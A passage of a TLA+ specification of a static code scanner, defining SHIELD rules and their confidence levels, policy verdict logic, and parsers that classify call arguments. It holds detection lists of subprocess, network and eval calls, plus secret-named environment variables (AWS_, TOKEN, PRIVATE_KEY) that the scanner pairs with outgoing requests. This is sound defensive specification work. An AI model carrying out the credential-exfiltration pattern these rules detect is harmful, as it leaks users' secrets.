                 Flatten([i \in 1..Len(cmds) |->
                            Expect("critical", C4_Confidences(cmds[i].command_arg), cmds[i])])
            /\ \A j \in 1..Len(out) : out[j].rule_id = "SHIELD-001"

C4_Witness ==
    /\ rule = "SHIELD-001"
    /\ Len(targets[1].execution.commands) = 3
    /\ targets[1].execution.commands[1].command_arg = Literal(<<"l", "s", " ", "-", "l", "a">>)
    /\ targets[1].execution.commands[2].command_arg = Literal(<<"p", "i", "p", " ", "i", "n", "s", "t", "a", "l", "l", " ", "$", "x">>)
    /\ targets[1].execution.commands[3].command_arg.tag = "Parameter"
    /\ Len(out) = 2
    /\ out[1].confidence = "medium"
    /\ out[2].confidence = "high"

C10_MatchesSome(arg) ==
    arg.tag = "Literal" /\ \E j \in 1..Len(INSTALL_PATTERNS) : is_match(INSTALL_PATTERNS[j], arg.val)

C10_MatchCount(arg) ==
    Cardinality({j \in 1..Len(INSTALL_PATTERNS) : is_match(INSTALL_PATTERNS[j], arg.val)})

\* C10: SHIELD-005 emits exactly one High-confidence finding per CommandInvocation
\* whose Literal argument matches at least one install pattern (one even when several
\* match), none for other commands, then exactly one Medium-confidence finding per
\* DynamicExec whose function contains "pip.main" or "importlib".
C10_RuntimeInstallTable ==
    rule = "SHIELD-005" =>
        LET cmds == targets[1].execution.commands
            dyns == targets[1].execution.dynamic_exec
            Named(f) == \E i \in 1..Len(f) :
                            \/ i + 7 <= Len(f) /\ SubSeq(f, i, i + 7) = <<"p", "i", "p", ".", "m", "a", "i", "n">>
                            \/ i + 8 <= Len(f) /\ SubSeq(f, i, i + 8) = <<"i", "m", "p", "o", "r", "t", "l", "i", "b">>
        IN  /\ Summary(out) =
                 Flatten([i \in 1..Len(cmds) |->
                            Expect("high",
                                   IF C10_MatchesSome(cmds[i].command_arg)
                                   THEN <<"high">> ELSE <<>>,
                                   cmds[i])])
                 \o
                 Flatten([i \in 1..Len(dyns) |->
                            Expect("high",
                                   IF Named(dyns[i].function) THEN <<"medium">> ELSE <<>>,
                                   dyns[i])])
            /\ \A j \in 1..Len(out) : out[j].rule_id = "SHIELD-005"

C10_Witness ==
    /\ rule = "SHIELD-005"
    /\ Len(targets[1].execution.commands) = 2
    /\ targets[1].execution.commands[1].command_arg.tag = "Literal"
    /\ C10_MatchCount(targets[1].execution.commands[1].command_arg) >= 2
    /\ targets[1].execution.commands[2].command_arg.tag = "Parameter"
    /\ Len(targets[1].execution.dynamic_exec) = 1
    /\ Len(out) = 2
    /\ out[1].confidence = "high"
    /\ out[2].confidence = "medium"


\* the network operations SHIELD-002 must report: sends_data, with a sensitive
\* access located in an equal file
C5_Correlated(target, n) ==
    /\ n.sends_data
    /\ \E k \in 1..Len(target.execution.env_accesses) :
          LET e == target.execution.env_accesses[k]
          IN  e.is_sensitive /\ Components(e.location.file) = Components(n.location.file)

C5_Reported(target) ==
    LET nets == target.execution.network_operations
    IN  Flatten([i \in 1..Len(nets) |->
                    IF C5_Correlated(target, nets[i]) THEN <<nets[i]>> ELSE <<>>])

\* C5: SHIELD-002 emits exactly one finding, in order, for each network operation
\* with sends_data that has a sensitive env access in the same file, and nothing for
\* any other network operation (sensitive accesses only in other files, non-sensitive
\* accesses, sends_data = false).
C5_SameFileOnly ==
    rule = "SHIELD-002" =>
        LET want == C5_Reported(targets[1])
        IN  /\ Len(out) = Len(want)
            /\ \A j \in 1..Len(out) :
                  /\ out[j].rule_id = "SHIELD-002"
                  /\ out[j].evidence[Len(out[j].evidence)].location = Some(want[j].location)

C5_Witness ==
    /\ rule = "SHIELD-002"
    /\ targets[1].execution.env_accesses = <<EnvAccess(ApiKey, TRUE, FileB, 10)>>
    /\ targets[1].execution.network_operations =
          <<NetworkOperation(Url, TRUE, FileA, 10), NetworkOperation(Url, TRUE, FileB, 40)>>
    /\ Len(out) = 1
    /\ out[1].evidence[2].location = Some(SourceLocation(FileB, 40))

\* C6: a SHIELD-002 finding has confidence High iff some same-file sensitive access
\* lies within 30 lines of the network call (before or after it), Medium otherwise.
C6_ProximityConfidence ==
    rule = "SHIELD-002" =>
        LET want == C5_Reported(targets[1])
            envs == targets[1].execution.env_accesses
            Near(n) == \E k \in 1..Len(envs) :
                          /\ envs[k].is_sensitive
                          /\ Components(envs[k].location.file) = Components(n.location.file)
                          /\ envs[k].location.line - n.location.line <= 30
                          /\ n.location.line - envs[k].location.line <= 30
        IN  /\ Len(out) = Len(want)
            /\ \A j \in 1..Len(out) :
                  out[j].confidence = IF Near(want[j]) THEN "high" ELSE "medium"

\* one access; a call 30 lines after it scores High, a call 31 lines after it Medium
C6_Witness ==
    /\ rule = "SHIELD-002"
    /\ targets[1].execution.env_accesses = <<EnvAccess(ApiKey, TRUE, FileA, 10)>>
    /\ targets[1].execution.network_operations =
          <<NetworkOperation(Url, TRUE, FileA, 40), NetworkOperation(Url, TRUE, FileA, 41)>>
    /\ Len(out) = 2
    /\ out[1].confidence = "high"
    /\ out[2].confidence = "medium"

\* the access follows the call by 31 lines; a nearer access is not sensitive
C6_WitnessFar ==
    /\ rule = "SHIELD-002"
    /\ targets[1].execution.env_accesses =
          <<EnvAccess(ApiKey, TRUE, FileA, 41), EnvAccess(ApiKey, FALSE, FileA, 40)>>
    /\ targets[1].execution.network_operations = <<NetworkOperation(Url, TRUE, FileA, 10)>>
    /\ Len(out) = 1
    /\ out[1].confidence = "medium"

C7_Confidences(arg) ==
    IF arg.tag = "Parameter" THEN <<"high">>
    ELSE IF arg.tag \in {"Interpolated", "Unknown"} THEN <<"medium">>
    ELSE <<>>

\* C7: SHIELD-003 emits, per NetworkOperation and in order, exactly one High-severity
\* finding with confidence High for a Parameter url_arg, exactly one with Medium for
\* Interpolated or Unknown, and nothing for Literal or EnvVar.
C7_SsrfTable ==
    rule = "SHIELD-003" =>
        LET nets == targets[1].execution.network_operations
        IN  /\ Summary(out) =
                 Flatten([i \in 1..Len(nets) |->
                            Expect("high", C7_Confidences(nets[i].url_arg), nets[i])])
            /\ \A j \in 1..Len(out) : out[j].rule_id = "SHIELD-003"

C7_Witness ==
    /\ rule = "SHIELD-003"
    /\ Len(targets[1].execution.network_operations) = 3
    /\ targets[1].execution.network_operations[1].url_arg.tag = "EnvVar"
    /\ targets[1].execution.network_operations[2].url_arg.tag = "Interpolated"
    /\ targets[1].execution.network_operations[3].url_arg.tag = "Parameter"
    /\ Len(out) = 2
    /\ out[1].confidence = "medium"
    /\ out[2].confidence = "high"

C8_Confidences(arg) ==
    IF arg.tag = "Parameter" THEN <<"high">>
    ELSE IF arg.tag \in {"Interpolated", "Unknown", "EnvVar"} THEN <<"medium">>
    ELSE <<>>

\* C8: SHIELD-004 emits, per FileOperation of any operation type and in order, exactly
\* one High-severity finding when path_arg is tainted (confidence High for Parameter,
\* Medium for Interpolated, Unknown or EnvVar), and nothing for a Literal path_arg.
C8_FileAccessTable ==
    rule = "SHIELD-004" =>
        LET ops == targets[1].execution.file_operations
        IN  /\ Summary(out) =
                 Flatten([i \in 1..Len(ops) |->
                            Expect("high", C8_Confidences(ops[i].path_arg), ops[i])])
            /\ \A j \in 1..Len(out) : out[j].rule_id = "SHIELD-004"

C8_Witness ==
    /\ rule = "SHIELD-004"
    /\ Len(targets[1].execution.file_operations) = 3
    /\ targets[1].execution.file_operations[1].path_arg.tag = "Literal"
    /\ targets[1].execution.file_operations[2].path_arg.tag = "Unknown"
    /\ targets[1].execution.file_operations[2].operation = "read"
    /\ targets[1].execution.file_operations[3].path_arg.tag = "Parameter"
    /\ Len(out) = 2
    /\ out[1].confidence = "medium"
    /\ out[2].confidence = "high"

\* the components of b are a suffix of the components of a
C9_Suffix(a, b) ==
    \E n \in 0..Len(Components(a)) :
        SubSeq(Components(a), n + 1, Len(Components(a))) = Components(b)

C9_Related(target, p) ==
    \E k \in 1..Len(target.source_files) :
        \/ C9_Suffix(target.source_files[k].path, p)
        \/ C9_Suffix(p, target.source_files[k].path)

C9_Confidences(target, op) ==
    IF op.operation # "write" THEN <<>>
    ELSE IF op.path_arg.tag = "Literal"
         THEN (IF C9_Related(target, op.path_arg.val) THEN <<"high">> ELSE <<>>)
    ELSE IF op.path_arg.tag \in {"Parameter", "Interpolated"} THEN <<"medium">>
    ELSE <<"low">>

C9_WitnessUnrelated ==
    /\ rule = "SHIELD-006"
    /\ targets[1].source_files = <<SourceFile(<<"s", ".", "p", "y">>, "python")>>
    /\ targets[1].execution.file_operations =
          <<FileOperation("write", Literal(<<"a", "s", ".", "p", "y">>), 5)>>
    /\ out = <<>>


(***************************************************************************)
(* Properties of the policy.                                               *)
(***************************************************************************)
\* the effective severity the policy gives finding f, read off the policy's fields
C1_Effective(f) ==
    IF \E r \in DOMAIN policy.overrides : r = f.rule_id
    THEN policy.overrides[f.rule_id]
    ELSE f.severity

\* the positions of all_findings that survive ignore_rules
C1_Surviving == {i \in 1..Len(all_findings) : ~(all_findings[i].rule_id \in policy.ignore_rules)}

\* C1: Policy.evaluate returns pass = true exactly when no surviving finding has an
\* effective severity >= fail_on; highest_severity is the greatest effective severity
\* (none iff nothing survives), so highest_severity >= fail_on <=> not pass; an empty
\* effective set passes.
C1_EvaluateVerdict ==
    pc = "evaluated" =>
        LET v == verdict[1]
            sevs == {C1_Effective(all_findings[i]) : i \in C1_Surviving}
        IN  /\ v.pass <=> \A s \in sevs : SeverityOrd(s) < SeverityOrd(policy.fail_on)
            /\ v.highest_severity = None <=> sevs = {}
            /\ sevs # {} =>
                  /\ v.highest_severity[1] \in sevs
                  /\ \A s \in sevs : SeverityOrd(s) <= SeverityOrd(v.highest_severity[1])
            /\ ~v.pass <=>
                  /\ v.highest_severity # None
                  /\ SeverityOrd(v.highest_severity[1]) >= SeverityOrd(policy.fail_on)
            /\ sevs = {} => v.pass
            /\ v.effective_findings = Cardinality(C1_Surviving)
            /\ v.fail_threshold = policy.fail_on

\* a finding raised to the threshold by its override fails the scan, while a finding
\* at or above the threshold is ignored
C1_Witness ==
    /\ pc = "evaluated"
    /\ Len(all_findings) = 2
    /\ all_findings[1].rule_id \in policy.ignore_rules
    /\ SeverityOrd(all_findings[1].severity) >= SeverityOrd(policy.fail_on)
    /\ all_findings[2].rule_id \in DOMAIN policy.overrides
    /\ all_findings[2].rule_id \notin policy.ignore_rules
    /\ SeverityOrd(all_findings[2].severity) < SeverityOrd(policy.fail_on)
    /\ policy.overrides[all_findings[2].rule_id] = policy.fail_on
    /\ ~verdict[1].pass

\* C2: Policy.apply returns, in the original order, exactly the findings whose rule_id
\* is not in ignore_rules, each with its severity replaced by overrides[rule_id] when
\* there is one (lower or higher) and every other field unchanged.
C2_ApplyFiltersAndOverrides ==
    pc = "applied" =>
        \E g \in [1..Len(effective_findings) -> 1..Len(all_findings)] :
            /\ \A j, k \in DOMAIN g : j < k => g[j] < g[k]
            /\ {g[j] : j \in DOMAIN g} = C1_Surviving
            /\ \A j \in DOMAIN g :
                  /\ DOMAIN effective_findings[j] = DOMAIN all_findings[g[j]]
                  /\ \A fld \in DOMAIN effective_findings[j] \ {"severity"} :
                        effective_findings[j][fld] = all_findings[g[j]][fld]
                  /\ effective_findings[j].severity = C1_Effective(all_findings[g[j]])

\* one finding dropped, one upgraded by its override
C2_Witness ==
    /\ pc = "applied"
    /\ Len(all_findings) = 2
    /\ all_findings[1].rule_id \in policy.ignore_rules
    /\ all_findings[2].rule_id \in DOMAIN policy.overrides
    /\ all_findings[2].rule_id \notin policy.ignore_rules
    /\ SeverityOrd(policy.overrides[all_findings[2].rule_id])
          > SeverityOrd(all_findings[2].severity)
    /\ Len(effective_findings) = 1
    /\ effective_findings[1].severity = policy.overrides[all_findings[2].rule_id]
    /\ effective_findings[1].location = all_findings[2].location


(***************************************************************************)
(* Properties of a scan.                                                   *)
(***************************************************************************)
\* C3: in every report scan returns, verdict.effective_findings is the number of
\* returned findings, verdict.highest_severity is the greatest severity among them
\* (none iff there are none), verdict.pass holds iff every returned finding is
\* below verdict.fail_threshold, and the findings of every loaded target are taken
\* into account: total_findings counts them all, and each one the policy does not
\* ignore is returned.
C3_VerdictAgreesWithFindings ==
    pc = "done" =>
        LET fs == report[1].findings
            v == report[1].verdict
            raw == [i \in 1..Len(targets) |-> RuleEngineRun(targets[i])]
        IN  /\ v.effective_findings = Len(fs)
            /\ v.highest_severity = None <=> fs = <<>>
            /\ fs # <<>> =>
                  /\ \E j \in 1..Len(fs) : fs[j].severity = v.highest_severity[1]
                  /\ \A j \in 1..Len(fs) :
                        SeverityOrd(fs[j].severity) <= SeverityOrd(v.highest_severity[1])
            /\ v.pass <=>
                  \A j \in 1..Len(fs) :
                      SeverityOrd(fs[j].severity) < SeverityOrd(v.fail_threshold)
            /\ v.fail_threshold = policy.fail_on
            /\ \A i \in 1..Len(targets) : \A k \in 1..Len(raw[i]) :
                  raw[i][k].rule_id \notin policy.ignore_rules =>
                      \E j \in 1..Len(fs) :
                          /\ fs[j].rule_id = raw[i][k].rule_id
                          /\ fs[j].location = raw[i][k].location
                          /\ fs[j].message = raw[i][k].message

\* two targets loaded; the second one's finding decides the verdict after an
\* override has lowered the first one's
C3_Witness ==
    /\ pc = "done"
    /\ Len(targets) = 2
    /\ RuleEngineRun(targets[2]) # <<>>
    /\ "SHIELD-001" \in DOMAIN policy.overrides
    /\ Len(report[1].findings) = 2
    /\ report[1].findings[1].rule_id = "SHIELD-001"
    /\ report[1].findings[1].severity = "info"
    /\ report[1].findings[2].rule_id = "SHIELD-003"
    /\ report[1].verdict.highest_severity = Some("high")
    /\ ~report[1].verdict.pass

(***************************************************************************)
(* String primitives used by the extractors.                               *)
(***************************************************************************)
\* str::starts_with(&str)
StartsWith(s, w) == OccursAt(s, 1, w)

\* str::ends_with(&str)
EndsWith(s, w) == Len(w) <= Len(s) /\ OccursAt(s, Len(s) - Len(w) + 1, w)

\* str::split(c).next(): the text before the first occurrence of c
BeforeFirst(s, c) ==
    IF ContainsChar(s, c)
    THEN LET i == CHOOSE k \in 1..Len(s) : s[k] = c /\ \A j \in 1..(k - 1) : s[j] # c
         IN  SubSeq(s, 1, i - 1)
    ELSE s

\* str::trim
RECURSIVE TrimStart(_)
TrimStart(s) == IF s # <<>> /\ IsSpace(Head(s)) THEN TrimStart(Tail(s)) ELSE s

RECURSIVE TrimEnd(_)
TrimEnd(s) ==
    IF s # <<>> /\ IsSpace(s[Len(s)]) THEN TrimEnd(SubSeq(s, 1, Len(s) - 1)) ELSE s

Trim(s) == TrimEnd(TrimStart(s))

\* str::trim_matches(c)
RECURSIVE TrimMatches(_, _)
TrimMatches(s, c) ==
    IF s # <<>> /\ Head(s) = c THEN TrimMatches(Tail(s), c)
    ELSE IF s # <<>> /\ s[Len(s)] = c THEN TrimMatches(SubSeq(s, 1, Len(s) - 1), c)
    ELSE s

(***************************************************************************)
(* parser/python.rs: classify_argument.  The slice                         *)
(* &first_arg[1..first_arg.len() - 1] of a one-character text panics       *)
(* (begin 1 > end 0): that outcome is Panic.                               *)
(***************************************************************************)
Panic == [tag |-> "Panic"]

\* (starts_with('"') && ends_with('"')) || (starts_with('\'') && ends_with('\''))
IsQuoted(first_arg) ==
    \/ StartsWith(first_arg, <<"\"">>) /\ EndsWith(first_arg, <<"\"">>)
    \/ StartsWith(first_arg, <<"'">>) /\ EndsWith(first_arg, <<"'">>)

\* let val = &first_arg[1..first_arg.len() - 1]; Literal(val.to_string())
QuotedLiteral(first_arg) ==
    IF Len(first_arg) < 2 THEN Panic
    ELSE Literal(SubSeq(first_arg, 2, Len(first_arg) - 1))

\* args_str.split(',').next().unwrap_or("").trim()
FirstArg(args_str) == Trim(BeforeFirst(args_str, ","))

classify_argument(args_str, param_names) ==
    LET first_arg == FirstArg(args_str)
        ident == BeforeFirst(first_arg, ".")
    IN  IF first_arg = <<>> THEN Unknown
        ELSE IF IsQuoted(first_arg) THEN QuotedLiteral(first_arg)
        ELSE IF \/ StartsWith(first_arg, <<"f", "\"">>)
                \/ StartsWith(first_arg, <<"f", "'">>)
                \/ ContainsStr(first_arg, <<".", "f", "o", "r", "m", "a", "t", "(">>)
        THEN Interpolated
        ELSE IF \/ ContainsStr(first_arg, <<"o", "s", ".", "e", "n", "v", "i", "r", "o", "n">>)
                \/ ContainsStr(first_arg, <<"o", "s", ".", "g", "e", "t", "e", "n", "v">>)
        THEN EnvVar(first_arg)
        ELSE IF ident \in param_names THEN Parameter(ident)
        ELSE Unknown

(***************************************************************************)
(* parser/typescript.rs: classify_argument_text.                           *)
(***************************************************************************)
\* TEMPLATE_LITERAL_RE = \$\{[^}]+\}
TemplateLiteralMatch(s) ==
    \E i \in 1..Len(s) :
        /\ OccursAt(s, i, <<"$", "{">>)
        /\ i + 2 <= Len(s)
        /\ s[i + 2] # "}"
        /\ \E j \in (i + 3)..Len(s) : s[j] = "}"

classify_argument_text(arg_text, param_names) ==
    LET first_arg == FirstArg(arg_text)
        ident == BeforeFirst(BeforeFirst(first_arg, "."), "[")
    IN  IF first_arg = <<>> THEN Unknown
        ELSE IF IsQuoted(first_arg) THEN QuotedLiteral(first_arg)
        ELSE IF StartsWith(first_arg, <<"<bt>">>)
        THEN IF TemplateLiteralMatch(first_arg) THEN Interpolated
             ELSE Literal(TrimMatches(first_arg, "<bt>"))
        ELSE IF /\ ContainsChar(first_arg, "+")
                /\ (ContainsChar(first_arg, "\"") \/ ContainsChar(first_arg, "'"))
        THEN Interpolated
        ELSE IF ContainsStr(first_arg, <<"p", "r", "o", "c", "e", "s", "s", ".", "e", "n", "v">>)
        THEN EnvVar(first_arg)
        ELSE IF ident \in param_names THEN Parameter(ident)
        ELSE Unknown

(***************************************************************************)
(* The classifiers on their own: the text between the parentheses of a     *)
(* call (CALL_RE's second capture) and the parameter names collected from  *)
(* the file.                                                               *)
(***************************************************************************)
ArgTextInputs ==
    {<<"\"", "l", "s", "\"">>,
     <<"'", "l", "s", "'">>,
     <<"\"", "a", "\"", " ", "+", " ", "x", " ", "+", " ", "\"", "b", "\"">>,
     <<"'", "a", "'", " ", "+", " ", "x", " ", "+", " ", "'", "b", "'">>,
     <<"\"", "a", "\"", " ", "+", " ", "x">>,
     <<"x", " ", "+", " ", "\"", "a", "\"">>,
     <<"x", " ", "+", " ", "y">>,
     <<"f", "\"", "l", "s", " ", "{", "x", "}", "\"">>,
     <<"f", "'", "{", "x", "}", "'">>,
     <<"\"", "l", "s", " ", "{", "}", "\"", ".", "f", "o", "r", "m", "a", "t", "(", "x">>,
     <<"x", ".", "f", "o", "r", "m", "a", "t", "(", "y">>,
     <<"<bt>", "l", "s", " ", "$", "{", "x", "}", "<bt>">>,
     <<"<bt>", "l", "s", "<bt>">>,
     <<"o", "s", ".", "e", "n", "v", "i", "r", "o", "n", "[", "\"", "K", "\"", "]">>,
     <<"o", "s", ".", "g", "e", "t", "e", "n", "v", "(", "\"", "K", "\"">>,
     <<"p", "r", "o", "c", "e", "s", "s", ".", "e", "n", "v", ".", "K">>,
     <<"p", "r", "o", "c", "e", "s", "s", ".", "e", "n", "v", ".", "K", " ", "+", " ", "\"", "a", "\"">>,
     <<"f", "\"", "{", "o", "s", ".", "g", "e", "t", "e", "n", "v", "(", "k", ")", "}", "\"">>,
     <<"x">>,
     <<"x", ".", "a">>,
     <<"x", "[", "0", "]">>,
     <<"x", ".", "a", "[", "0", "]">>,
     <<"y">>,
     <<"y", ".", "a">>,
     <<"y", "[", "0", "]">>,
     <<>>,
     <<" ">>,
     <<"\"">>,
     <<"'">>,
     <<"\"", ",", "\"">>,
     <<" ", "x", " ", ",", " ", "s", "h", "e", "l", "l", "=", "T", "r", "u", "e">>,
     <<"\"", "l", "s", "\"", ",", " ", "x">>,
     <<"\"", "a", ",", " ", "b", "\"">>}

ParamNameInputs == {{}, {<<"x">>}, {<<"y">>, <<"c", "m", "d">>}}

ClassifyInputs == [args_str : ArgTextInputs, param_names : ParamNameInputs]

InitClassify ==
    /\ pc = "classify"
    /\ args \in {Some(a) : a \in ClassifyInputs}
    /\ policy = DefaultPolicy
    /\ targets = <<>>
    /\ all_findings = <<>>
    /\ effective_findings = <<>>
    /\ verdict = None
    /\ report = None
    /\ rule = ""
    /\ out = <<>>
    /\ root = None /\ options = None /\ error = None /\ exit_code = None

\* parser/python.rs: classify_argument(args_str, &param_names)
ClassifyPython ==
    /\ pc = "classify"
    /\ out' = classify_argument(args[1].args_str, args[1].param_names)
    /\ pc' = "python"
    /\ UNCHANGED <<policy, targets, all_findings, effective_findings, verdict, report, rule>>
    /\ UNCHANGED <<root, args, options, error, exit_code>>

\* parser/typescript.rs: classify_argument_text(args_str, &param_names)
ClassifyTypeScript ==
    /\ pc = "classify"
    /\ out' = classify_argument_text(args[1].args_str, args[1].param_names)
    /\ pc' = "typescript"
    /\ UNCHANGED <<policy, targets, all_findings, effective_findings, verdict, report, rule>>
    /\ UNCHANGED <<root, args, options, error, exit_code>>

NextClassify == ClassifyPython \/ ClassifyTypeScript

SpecClassify == InitClassify /\ [][NextClassify]_vars

(***************************************************************************)
(* parser/python.rs: PythonParser.  A line of a Python file is what the    *)
(* regular expressions capture on it: the variable names ENV_ACCESS_RE     *)
(* captures and the (callee, argument text) pairs CALL_RE captures, left   *)
(* to right; the parameter names are what FUNC_DEF_RE yields over the      *)
(* file.                                                                   *)
(***************************************************************************)
SUBPROCESS_PATTERNS ==
    {<<"s", "u", "b", "p", "r", "o", "c", "e", "s", "s", ".", "r", "u", "n">>,
     <<"s", "u", "b", "p", "r", "o", "c", "e", "s", "s", ".", "c", "a", "l", "l">>,
     <<"s", "u", "b", "p", "r", "o", "c", "e", "s", "s", ".", "c", "h", "e", "c", "k", "_", "c", "a", "l", "l">>,
     <<"s", "u", "b", "p", "r", "o", "c", "e", "s", "s", ".", "c", "h", "e", "c", "k", "_", "o", "u", "t", "p", "u", "t">>,
     <<"s", "u", "b", "p", "r", "o", "c", "e", "s", "s", ".", "P", "o", "p", "e", "n">>,
     <<"o", "s", ".", "s", "y", "s", "t", "e", "m">>,
     <<"o", "s", ".", "p", "o", "p", "e", "n">>,
     <<"o", "s", ".", "e", "x", "e", "c">>,
     <<"o", "s", ".", "e", "x", "e", "c", "v">>,
     <<"o", "s", ".", "e", "x", "e", "c", "v", "e">>,
     <<"o", "s", ".", "e", "x", "e", "c", "v", "p">>}

NETWORK_PATTERNS ==
    {<<"r", "e", "q", "u", "e", "s", "t", "s", ".", "g", "e", "t">>,
     <<"r", "e", "q", "u", "e", "s", "t", "s", ".", "p", "o", "s", "t">>,
     <<"r", "e", "q", "u", "e", "s", "t", "s", ".", "p", "u", "t">>,
     <<"r", "e", "q", "u", "e", "s", "t", "s", ".", "p", "a", "t", "c", "h">>,
     <<"r", "e", "q", "u", "e", "s", "t", "s", ".", "d", "e", "l", "e", "t", "e">>,
     <<"r", "e", "q", "u", "e", "s", "t", "s", ".", "h", "e", "a", "d">>,
     <<"r", "e", "q", "u", "e", "s", "t", "s", ".", "r", "e", "q", "u", "e", "s", "t">>,
     <<"u", "r", "l", "l", "i", "b", ".", "r", "e", "q", "u", "e", "s", "t", ".", "u", "r", "l", "o", "p", "e", "n">>,
     <<"h", "t", "t", "p", "x", ".", "g", "e", "t">>,
     <<"h", "t", "t", "p", "x", ".", "p", "o", "s", "t">>,
     <<"h", "t", "t", "p", "x", ".", "p", "u", "t">>,
     <<"h", "t", "t", "p", "x", ".", "A", "s", "y", "n", "c", "C", "l", "i", "e", "n", "t">>,
     <<"a", "i", "o", "h", "t", "t", "p", ".", "C", "l", "i", "e", "n", "t", "S", "e", "s", "s", "i", "o", "n">>}

DYNAMIC_EXEC_PATTERNS ==
    {<<"e", "v", "a", "l">>,
     <<"e", "x", "e", "c">>,
     <<"c", "o", "m", "p", "i", "l", "e">>,
     <<"_", "_", "i", "m", "p", "o", "r", "t", "_", "_">>}

FILE_READ_PATTERNS ==
    {<<"o", "p", "e", "n">>,
     <<"p", "a", "t", "h", "l", "i", "b", ".", "P", "a", "t", "h">>}

\* char::to_uppercase over ASCII letters: what (?i) folds
ToUpperChar(c) ==
    CASE c = "a" -> "A" [] c = "b" -> "B" [] c = "c" -> "C" [] c = "d" -> "D" [] c = "e" -> "E" [] c = "f" -> "F"
      [] c = "g" -> "G" [] c = "h" -> "H" [] c = "i" -> "I" [] c = "j" -> "J" [] c = "k" -> "K" [] c = "l" -> "L" [] c = "m" -> "M"
      [] c = "n" -> "N" [] c = "o" -> "O" [] c = "p" -> "P" [] c = "q" -> "Q" [] c = "r" -> "R" [] c = "s" -> "S" [] c = "t" -> "T"
      [] c = "u" -> "U" [] c = "v" -> "V" [] c = "w" -> "W" [] c = "x" -> "X" [] c = "y" -> "Y" [] c = "z" -> "Z"
      [] OTHER -> c

ToUpper(s) == [i \in 1..Len(s) |-> ToUpperChar(s[i])]

\* SENSITIVE_ENV_VARS = (?i)(AWS_|SECRET|TOKEN|PASSWORD|API_KEY|PRIVATE_KEY|CREDENTIALS|AUTH)
SENSITIVE_ENV_VARS ==
    {<<"A", "W", "S", "_">>,
     <<"S", "E", "C", "R", "E", "T">>,
     <<"T", "O", "K", "E", "N">>,
     <<"P", "A", "S", "S", "W", "O", "R", "D">>,
     <<"A", "P", "I", "_", "K", "E", "Y">>,
     <<"P", "R", "I", "V", "A", "T", "E", "_", "K", "E", "Y">>,
     <<"C", "R", "E", "D", "E", "N", "T", "I", "A", "L", "S">>,
     <<"A", "U", "T", "H">>}

IsSensitiveEnvVar(var_name) ==
    \E w \in SENSITIVE_ENV_VARS : ContainsStr(ToUpper(var_name), w)

\* patterns.iter().any(|p| func_name.ends_with(p) || func_name == *p)
MatchesPattern(func_name, patterns) ==
    \E p \in patterns : EndsWith(func_name, p) \/ func_name = p

\* the method of a network call (lines 150-158)
PythonMethod(func_name) ==
    IF ContainsStr(func_name, <<"g", "e", "t">>) THEN Some("GET")
    ELSE IF ContainsStr(func_name, <<"p", "o", "s", "t">>) THEN Some("POST")
    ELSE IF ContainsStr(func_name, <<"p", "u", "t">>) THEN Some("PUT")
    ELSE None

\* sends_data of a network call (lines 145-149)
PythonSendsData(func_name, args_str) ==
    \/ ContainsStr(func_name, <<"p", "o", "s", "t">>)
    \/ ContainsStr(func_name, <<"p", "u", "t">>)
    \/ ContainsStr(func_name, <<"p", "a", "t", "c", "h">>)
    \/ ContainsStr(args_str, <<"d", "a", "t", "a", "=">>)
    \/ ContainsStr(args_str, <<"j", "s", "o", "n", "=">>)

\* the operation of an open / pathlib.Path call (lines 182-190)
PythonFileOpType(args_str) ==
    IF \/ ContainsStr(args_str, <<"'", "w">>)
       \/ ContainsStr(args_str, <<"\"", "w">>)
       \/ ContainsStr(args_str, <<"'", "a">>)
       \/ ContainsStr(args_str, <<"\"", "a">>)
    THEN "write"
    ELSE "read"

\* parser/mod.rs: ParsedFile (function_params is never filled nor read); panicked
\* records that the extraction panicked instead of returning
ParsedFile(commands, file_operations, network_operations, env_accesses, dynamic_exec, panicked) ==
    [commands |-> commands,
     file_operations |-> file_operations,
     network_operations |-> network_operations,
     env_accesses |-> env_accesses,
     dynamic_exec |-> dynamic_exec,
     panicked |-> panicked]

\* ParsedFile::default()
EmptyParsedFile == ParsedFile(<<>>, <<>>, <<>>, <<>>, <<>>, FALSE)

\* the pushes of two stretches of the scan, one after the other
ExtendParsed(a, b) ==
    ParsedFile(a.commands \o b.commands,
               a.file_operations \o b.file_operations,
               a.network_operations \o b.network_operations,
               a.env_accesses \o b.env_accesses,
               a.dynamic_exec \o b.dynamic_exec,
               a.panicked \/ b.panicked)

RECURSIVE ConcatParsed(_)
ConcatParsed(ps) ==
    IF ps = <<>> THEN EmptyParsedFile ELSE ExtendParsed(Head(ps), ConcatParsed(Tail(ps)))

\* fn loc(file, line)
ParserLoc(file, line) == SourceLocation(file, line)

\* the body of "for cap in ENV_ACCESS_RE.captures_iter(line)" (lines 106-119)
PythonEnvFact(file_path, line_num, var_name) ==
    ParsedFile(<<>>, <<>>, <<>>,
               <<[var_name |-> Literal(var_name),
                  is_sensitive |-> IsSensitiveEnvVar(var_name),
                  location |-> ParserLoc(file_path, line_num)]>>,
               <<>>, FALSE)

\* the body of "for cap in CALL_RE.captures_iter(line)" (lines 122-197)
PythonCallFacts(file_path, line_num, call, param_names) ==
    LET func_name == call.func_name
        args_str == call.args_str
        arg_source == classify_argument(args_str, param_names)
        at == ParserLoc(file_path, line_num)
    IN  IF arg_source = Panic
        THEN ParsedFile(<<>>, <<>>, <<>>, <<>>, <<>>, TRUE)
        ELSE ParsedFile(
            IF MatchesPattern(func_name, SUBPROCESS_PATTERNS)
            THEN <<[function |-> func_name, command_arg |-> arg_source, location |-> at]>>
            ELSE <<>>,
            IF MatchesPattern(func_name, FILE_READ_PATTERNS)
            THEN <<[operation |-> PythonFileOpType(args_str), path_arg |-> arg_source,
                    location |-> at]>>
            ELSE <<>>,
            IF MatchesPattern(func_name, NETWORK_PATTERNS)
            THEN <<[function |-> func_name, url_arg |-> arg_source,
                    method |-> PythonMethod(func_name),
                    sends_data |-> PythonSendsData(func_name, args_str),
                    location |-> at]>>
            ELSE <<>>,
            <<>>,
            IF func_name \in DYNAMIC_EXEC_PATTERNS
            THEN <<[function |-> func_name, code_arg |-> arg_source, location |-> at]>>
            ELSE <<>>,
            FALSE)

\* one turn of "for (line_idx, line) in content.lines().enumerate()"
PythonLineFacts(file_path, line_num, line, param_names) ==
    IF line.comment THEN EmptyParsedFile
    ELSE ExtendParsed(
            ConcatParsed([k \in 1..Len(line.envs) |->
                            PythonEnvFact(file_path, line_num, line.envs[k])]),
            ConcatParsed([k \in 1..Len(line.calls) |->
                            PythonCallFacts(file_path, line_num, line.calls[k], param_names)]))

\* PythonParser::parse_file: it never returns Err
PythonParseFile(path, content) ==
    LET parsed == ConcatParsed([i \in 1..Len(content.lines) |->
